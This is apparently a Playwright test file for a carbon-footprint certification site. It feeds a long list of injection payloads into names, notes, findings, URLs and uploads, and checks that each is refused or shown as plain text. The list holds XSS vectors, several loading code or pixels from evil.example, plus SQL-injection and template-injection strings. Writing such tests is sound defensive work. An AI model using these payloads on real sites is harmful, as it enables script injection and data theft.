"""Threat 22: text that wants to be script stays text on every page, or is refused at the door."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Browser, FilePayload, Page, expect

from tests.support.browser import PHONE, Site, a_window, sign_in
from tests.support.instance import ALUMINIUM
from tests.support.walk import CERTIFIER, REVIEWER, VERIFIER, Walk

MAKER = ALUMINIUM.preparer
_CALL = "alert(22)"
PAYLOADS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script src=data:text/javascript,{_CALL}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<img src=x onerror={_CALL}>",
    f"<img src=x onerror='{_CALL}'",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f"<img src=javascript:{_CALL}>",
    "<img src=https://evil.example/pixel>",
    f"<IMG SRC=`javascript:{_CALL}`>",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x>",
    f"<svg><a xlink:href=javascript:{_CALL}><text y=20>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={_CALL}>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f'" autofocus onfocus={_CALL} x="',
    f"' autofocus onfocus={_CALL} x='",
    f'" onmouseover="{_CALL}',
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}>",
    f"<audio src=x onerror={_CALL}>",
    f"<iframe src=javascript:{_CALL}>",
    f'<iframe srcdoc="<script>{_CALL}</script>">',
    "<iframe src=https://evil.example/>",
    f"<object data=javascript:{_CALL}>",
    f"<embed src=javascript:{_CALL}>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    "<form action=https://evil.example/><button>x</button></form>",
    f"<button formaction=javascript:{_CALL}>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<div style=background:url(https://evil.example/)>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<marquee onstart={_CALL}>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"javascript:{_CALL}",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${7*7}#{7*7}",
    "'; DROP TABLE study; --",
    "{amount} {place} %s %(name)s {0.__class__}",
    "全角＜script＞碳标",
)


def a_document(model: str, name: str, **texts: list[str]) -> dict[str, Any]:
    """A bill whose free texts are payloads: one line for each, and notes and assumptions."""
    names = texts.get("names", ["ingot", "scrap"])
    stages = ("raw-material", "manufacturing")
    states = dict.fromkeys(stages, "included")
    states |= dict.fromkeys(("distribution", "use", "end-of-life"), "not-specified")
    return {
        "product": {
            "name": {"en": name, "zh-Hans": name},
            "model": model,
            "category": "cpc-41532",
            "plant": names[0],
        },
        "unit": {
            "kind": "declared",
            "amount": "1",
            "unit": "kg",
            "description": {"en": names[-1], "zh-Hans": names[-1]},
        },
        "boundary": "cradle-to-gate",
        "reference_period": {"from": "2024-01-01", "to": "2024-12-31"},
        "geography": "CN-GD",
        "stages": states,
        "lines": [
            {
                "ref": f"line{number}",
                "kind": "material",
                "name": text,
                "dataset": "aluminium-primary-cn",
                "amount": "1",
                "unit": "kg",
                "stage": stages[number % 2],
                "activity_origin": "measured",
                "note": text,
            }
            for number, text in enumerate(names)
        ],
        "assumptions": names,
        "cut_offs": names,
    }


def _texts(page: Page, selector: str) -> set[str]:
    """What the first text of each element says, exactly as it stands in the document."""
    found: list[str] = page.evaluate(
        "(selector) => [...document.querySelectorAll(selector)]"
        ".map((element) => element.firstChild.textContent)",
        selector,
    )
    return set(found)


def test_a_product_named_by_a_payload_is_refused_or_shown_letter_by_letter(
    chromium: Browser, site: Site
) -> None:
    accepted = set()
    for number, payload in enumerate(PAYLOADS):
        document = a_document(f"PAYLOAD-{number}", payload)
        answer = site.instance.send("POST", "/v1/footprints", "xu.xiguang", document)
        if answer.status_code == 422:
            codes = {error["code"] for error in answer.json()["errors"]}
            assert codes <= {"name-character-refused", "name-mixed-scripts"}, (payload, codes)
        else:
            assert answer.status_code == 201, answer.text
            accepted.add(payload)
    assert not any("<" in payload for payload in accepted), "markup is no name"
    with a_window(chromium, site) as window:
        sign_in(window, "xu.xiguang")
        page = window.open("/products")
        assert accepted <= _texts(page, "tbody th a")
        assert window.troubles == []


@pytest.fixture(scope="module")
def walk(site: Site) -> Walk:
    """A case every free text of which is a payload, decided and with its label."""
    instance = site.instance
    document = a_document(PAYLOADS[14], "Rod (specimen)", names=list(PAYLOADS))
    study = instance.post("/v1/footprints", MAKER, document)
    bodies = instance.organisations
    case = instance.post(
        "/v1/cases",
        MAKER,
        {
            "study_id": study["id"],
            "verification_body_id": bodies["zhujiang"],
            "certification_body_id": bodies["tanbiao-gd"],
        },
    )
    client = instance.client
    client.upload(study["id"], MAKER, "activity-data", b"SPECIMEN")
    report = client.upload(study["id"], VERIFIER, "verification-report", b"SPECIMEN")
    return Walk(instance, ALUMINIUM, study, case, report)


def _go_on(walk: Walk) -> None:
    """The steps with free text, up to the technical review."""
    text = "\n".join(PAYLOADS)
    walk.agree()
    walk.step(VERIFIER, "start-verification")
    case = walk.step(
        VERIFIER,
        "open-finding",
        severity="minor",
        text=text,
        due_on="2031-01-31",
        place="line0",
    )
    finding = case["findings"][0]["id"]
    walk.step(MAKER, "answer-finding", finding_id=finding, text=text)
    walk.step(VERIFIER, "close-finding", finding_id=finding, text=text)
    walk.state()
    walk.step(REVIEWER, "complete-technical-review", is_grant_recommended=True, note=text)


def test_payloads_in_free_text_stay_text_from_the_study_to_the_public_page(
    chromium: Browser, site: Site, walk: Walk
) -> None:
    _go_on(walk)
    case, study = f"/cases/{walk.case['id']}", f"/studies/{walk.study['id']}"
    with a_window(chromium, site) as window:
        sign_in(window, MAKER)
        for path in (study, case):
            page = window.open(path)
            assert set(PAYLOADS) == _texts(page, 'tr[id^="line-"] th'), path
            assert set(PAYLOADS) == _texts(page, ".line-note p"), path
        assert set(PAYLOADS) <= _texts(window.open(study), "ul.said li")
        assert window.troubles == []
    for person in (VERIFIER, CERTIFIER):
        with a_window(chromium, site) as window:
            sign_in(window, person)
            page = window.open(case)
            finding = page.locator("article.finding .said").first
            assert finding.text_content() == "\n".join(PAYLOADS)
            assert window.troubles == []
    walk.decide()
    label = walk.issue()
    with a_window(chromium, site, PHONE) as phone:
        page = phone.open("/L/" + str(label["url"]).rsplit("/", 1)[-1])
        expect(page.locator("main")).to_contain_text(PAYLOADS[0])  # the plant
        expect(page.locator("main")).to_contain_text(PAYLOADS[14])  # the model
        assert phone.width() == PHONE[0]
        assert phone.troubles == []


@pytest.mark.parametrize("path", ["/datasets?q=", "/products?done=", "/sign-in?next=", "/L/"])
def test_payloads_in_an_address_stay_text(chromium: Browser, site: Site, path: str) -> None:
    with a_window(chromium, site) as window:
        sign_in(window, MAKER)
        for payload in PAYLOADS[::6]:
            encoded = window.page.evaluate("encodeURIComponent", payload)
            page = window.open(path + encoded, status=None)
            if path == "/datasets?q=":
                expect(page.locator("#q")).to_have_value(payload)
            assert page.url.startswith(site.url)
        assert window.troubles == []


def test_a_file_named_by_a_payload_is_refused_in_words(chromium: Browser, site: Site) -> None:
    with a_window(chromium, site) as window:
        sign_in(window, MAKER)
        for payload in PAYLOADS[12:15]:
            page = window.open("/studies/upload")
            file = FilePayload(name=f"{payload}.csv", mimeType="text/csv", buffer=payload.encode())
            page.locator('form[action="/studies/upload"] input[type="file"]').set_input_files(file)
            page.locator('form[action="/studies/upload"] button').click()
            expect(page.locator("tbody, .problem")).to_be_visible()
        assert window.troubles == []
